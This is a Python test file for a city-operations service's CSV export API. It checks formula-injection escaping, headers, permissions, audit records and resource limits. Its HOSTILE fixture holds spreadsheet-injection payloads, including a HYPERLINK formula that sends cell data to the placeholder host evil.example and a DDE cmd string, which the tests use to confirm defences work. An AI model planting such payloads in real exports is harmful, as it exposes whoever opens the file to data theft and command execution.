"""What leaves as a file: who takes it, what is on record, and that it does nothing when opened."""

import csv
import io
import itertools
import socket
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from msgspec.structs import astuple

from services.alerts.transitions import Names
from services.api.exports import alerts, making
from services.api.permissions import RIGHTS, ROLES, Permission
from streams.events import MINUTE, to_datetime
from streams.tables import readings
from streams.tables.rows import rows_of
from streams.tables.writer import copy
from tests.support.alerting import START, incident
from tests.support.audit import lines_of
from tests.support.desk import Desk, open_desk
from tests.support.waiting import eventually
from tests.unit.test_spreadsheet import begins_a_formula, plain, read

ALERTS, INCIDENTS, READINGS = (
    f"/api/exports/{name}.csv" for name in ("alerts", "incidents", "readings")
)
SINCE = {"since": "2026-11-18T00:00:00Z"}
REST = (None, False, "live", "", "gw", None)
"""Of a reading: score, late, origin, model, gateway, the device's time."""
HOSTILE = Names(
    source_vi='=HYPERLINK("http://evil.example/?"&A1,"Cầu Rào")',
    source_en="Rào;=cmd|' /C calc'!A0",
    zone_vi="＝1+1",
    zone_en="\u202e\t\r\n@SUM(1)",
)


@pytest.fixture(scope="module")
def service(
    database_server: str, template_database: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Desk]:
    state = tmp_path_factory.mktemp("state")
    with open_desk(database_server, template_database, state) as desk:
        desk.alert(HOSTILE)
        desk.alert(Names(source_vi="Cầu Rào", source_en="Rào bridge"))
        rows = [
            (to_datetime(START + n * MINUTE), "loop-1", "speed", value, *REST)
            for n, value in enumerate((-5.3, 12.5, 1e3))
        ]
        copy(desk.database, readings.TABLE, rows)
        yield desk


@pytest.fixture
def desk(service: Desk) -> Desk:
    service.database.execute("DELETE FROM sign_in_failures")
    return service


@pytest.fixture
def analyst(desk: Desk) -> httpx.Client:
    return desk.signed_in(desk.person("analyst"))


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    assert answer.is_success, answer.text
    found = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert answer.headers["X-Rows"] == str(len(found))
    return found


def reason(answer: httpx.Response) -> tuple[int, str]:
    return answer.status_code, answer.json()["reason"]


# --- what is in it ------------------------------------------------------------------------------


def test_no_text_from_outside_begins_a_formula_in_an_export(analyst: httpx.Client) -> None:
    text = analyst.get(ALERTS).content.decode("utf-8-sig")
    for delimiter in ",;|\t":
        cells = [cell for row in read(text, delimiter) for cell in row]
        assert [cell for cell in cells if begins_a_formula(cell)] == [], delimiter
    assert "evil.example" in text, "it is told all the same"
    assert "\u202e" not in text


def test_control_as_the_standard_library_writes_it_it_does() -> None:
    text = plain([("id", *astuple(HOSTILE))])
    assert sum(begins_a_formula(cell) for cell in read(text)[0]) == 2
    assert any(begins_a_formula(cell) for cell in read(text, ";")[0])


def test_a_file_is_for_spreadsheets_and_kept_by_nobody(analyst: httpx.Client) -> None:
    answer = analyst.get(ALERTS)
    assert answer.content.startswith(b'\xef\xbb\xbf"id","state"')
    assert answer.content.count(b"\r\n") == answer.content.count(b"\n") == 3
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Cache-Control"] == "no-store"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    said = answer.headers["Content-Disposition"]
    assert said.startswith('attachment; filename="cityops-alerts-2')
    assert said.endswith('Z.csv"')
    listed = analyst.get("/api/alerts").json()["alerts"]
    for row, alert in zip(rows(answer), listed, strict=True):
        assert (row["id"], row["state"]) == (alert["id"], alert["state"])
        assert (row["event_time"], row["ended"]) == (alert["event_time"], "")
        assert row["latitude"] == str(alert["place"]["latitude"])
    assert {row["source_vi"] for row in rows(answer)} == {f"'{HOSTILE.source_vi}", "Cầu Rào"}


def test_numbers_that_were_measured_stay_numbers(analyst: httpx.Client) -> None:
    answer = analyst.get(READINGS, params=SINCE | {"source": "loop-1"})
    assert [float(row["value"]) for row in rows(answer)] == [-5.3, 12.5, 1000.0]
    assert b",-5.3," in answer.content
    later = analyst.get(READINGS, params={"since": "2026-11-18T11:07:30Z"})
    assert [row["value"] for row in rows(later)] == ["12.5", "1000.0"]
    assert rows(analyst.get(READINGS, params=SINCE | {"metric": "flow"})) == []
    assert reason(analyst.get(READINGS)) == (422, "invalid"), "all that there ever was is too much"


def test_filters_narrow_an_export_as_they_do_the_list(desk: Desk, analyst: httpx.Client) -> None:
    for asked in (
        {"state": "resolved"},
        {"severity": ["high", "low"]},
        {"text": "rao"},
        {"text": "hyperlink"},
        {"since": "2026-11-19T00:00:00Z"},
        {"kind": "crowd"},
    ):
        listed = [one["id"] for one in analyst.get("/api/alerts", params=asked).json()["alerts"]]
        assert [row["id"] for row in rows(analyst.get(ALERTS, params=asked))] == listed, asked
    assert reason(analyst.get(ALERTS, params={"since": "yesterday"})) == (422, "invalid")
    one = incident(source="=cam-9")
    for table, found in rows_of(one).items():
        copy(desk.database, table, found)
    (row,) = rows(analyst.get(INCIDENTS, params={"source": "=cam-9"}))
    assert (row["id"], row["sources"], row["revision"]) == (one.id, "'=cam-9", "0")
    assert row["scenery"] == "false"


# --- who may, and what is on record ---------------------------------------------------------------


def test_only_who_may_take_data_away_does(desk: Desk) -> None:
    for role in ROLES:
        answer = desk.signed_in(desk.person(role)).get(ALERTS)
        allowed = Permission.DATA_EXPORT in RIGHTS[role]
        assert answer.status_code == (200 if allowed else 403), role


def test_an_export_shows_nobody_what_they_may_not_read(desk: Desk) -> None:
    machine = desk.machine()
    only = {"permissions": ["data:export"]}
    machine.put("/api/roles/carrier", json=only).raise_for_status()
    name = desk.person("carrier")
    client = desk.signed_in(name)
    for path in (ALERTS, INCIDENTS, READINGS):
        assert reason(client.get(path, params=SINCE)) == (403, "role"), path
    body = {"label": "sheet", "days": 1}
    analyst = desk.signed_in(desk.person("analyst"))
    for scopes, status in ((["data:export"], 403), (["data:export", "alerts:read"], 200)):
        made = analyst.post("/api/tokens", json=body | {"scopes": scopes}).json()
        assert desk.client(made["token"]).get(ALERTS).status_code == status, scopes


def test_who_took_what_away_by_which_filters_is_on_record(desk: Desk) -> None:
    name = desk.person("supervisor")
    client = desk.signed_in(name)
    number = len(rows(client.get(ALERTS, params={"text": "rao", "severity": "high"})))
    rows(client.get(ALERTS))
    rows(client.get(READINGS, params=SINCE | {"source": ["loop-1", "loop-2"]}))
    assert client.get(ALERTS, params={"state": "fine"}).status_code == 422
    first, second, *_ = (line for line in lines_of(desk, "alerts:export") if line.actor == name)
    assert (first.outcome, first.role) == ("done", "supervisor")
    assert first.detail == f"rows: {number}; severities: high; text: rao"
    assert second.detail == "rows: 2", "none of two alike stands for the other"
    (third,) = (line for line in lines_of(desk, "readings:export") if line.actor == name)
    assert third.detail == "rows: 3; source: loop-1, loop-2; since: 2026-11-18T00:00:00.000000Z"


def test_the_area_of_who_takes_it_is_on_record(desk: Desk) -> None:
    name = desk.person("analyst")
    desk.database.execute("UPDATE users SET wards = %s WHERE name = %s", [["Hồng Bàng"], name])
    assert rows(desk.signed_in(name).get(ALERTS)) == [], "these alerts are in no ward"
    (line,) = (line for line in lines_of(desk, "alerts:export") if line.actor == name)
    assert line.detail == "rows: 0; area: Hồng Bàng"


def test_nothing_is_taken_away_that_cannot_be_recorded(desk: Desk, analyst: httpx.Client) -> None:
    desk.database.execute("ALTER TABLE audit_log ADD CONSTRAINT full_up CHECK (false) NOT VALID")
    try:
        answer = analyst.get(ALERTS)
        assert reason(answer) == (503, "not_recorded")
        assert "Rào" not in answer.text
    finally:
        desk.database.execute("ALTER TABLE audit_log DROP CONSTRAINT full_up")
    assert rows(analyst.get(ALERTS)), "control"


# --- what it may cost -----------------------------------------------------------------------------


def test_an_export_is_whole_or_is_not(
    desk: Desk, analyst: httpx.Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(said: str) -> None:
        answer = analyst.get(ALERTS)
        assert reason(answer) == (422, said)
        assert "narrow" in answer.json()["detail"]

    with monkeypatch.context() as patched:
        patched.setattr(alerts, "MOST", 1)
        refused("too_many_rows")
        patched.setattr(alerts, "MOST", 2)
        assert len(rows(analyst.get(ALERTS))) == 2
        patched.setattr(making, "MOST_BYTES", 100)
        refused("too_large")
    with monkeypatch.context() as patched:
        patched.setattr(making, "SECONDS", -1.0)
        refused("takes_too_long")

    def slow(connection: Any, _filter: Any) -> Any:
        connection.execute("SET LOCAL statement_timeout = 50")
        return making.read(connection, "SELECT pg_sleep(9)::text LIMIT %(limit)s", {}, 5)

    with monkeypatch.context() as patched:
        patched.setattr(alerts, "rows", slow)
        refused("takes_too_long")
    assert rows(analyst.get(ALERTS)), "control"
    eventually(
        lambda: (
            {line.reason for line in lines_of(desk, "alerts:export")}
            >= {"too_many_rows", "too_large", "takes_too_long"}
        )
    )


def test_so_many_are_made_at_a_time(analyst: httpx.Client, monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as patched:
        patched.setattr(making, "AT_ONCE", 0)
        answer = analyst.get(ALERTS)
        assert reason(answer) == (503, "busy")
        assert answer.headers["Retry-After"]
    assert rows(analyst.get(ALERTS)), "control"


def unread(desk: Desk, client: httpx.Client) -> socket.socket:
    """A connection on which an export has begun to come, of which nothing more is read."""
    there = urlsplit(desk.settings.api)
    line = socket.socket()
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    line.connect((there.hostname, there.port))
    cookies = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    line.sendall(f"GET {ALERTS} HTTP/1.1\r\nHost: a\r\nCookie: {cookies}\r\n\r\n".encode())
    assert line.recv(12) == b"HTTP/1.1 200"
    return line


def test_whoever_reads_slowly_holds_no_connection_to_the_database(
    desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    row = ["a" * 30_000] * len(alerts.COLUMNS)
    monkeypatch.setattr(alerts, "rows", lambda *_: itertools.repeat(row, 8))  # 8 MB
    people = [desk.signed_in(desk.person("analyst")) for _ in range(9)]
    pool = desk.app.state.pool
    assert len(people) > pool.max_size
    monkeypatch.setattr(pool, "timeout", 1.0)
    with ExitStack() as opened:
        lines = [opened.enter_context(unread(desk, one)) for one in people]
        assert all(one.get("/api/alerts", params={"limit": 1}).is_success for one in people)
        assert reason(people[0].get(ALERTS)) == (503, "busy"), "one at a time of each"
        with ExitStack() as held:  # control: where they are held somebody waits in vain
            for _ in range(pool.max_size):
                held.enter_context(pool.connection())
            assert people[1].get("/api/alerts").status_code == 503
        lines[0].close()
        eventually(lambda: people[0].get(ALERTS).is_success)
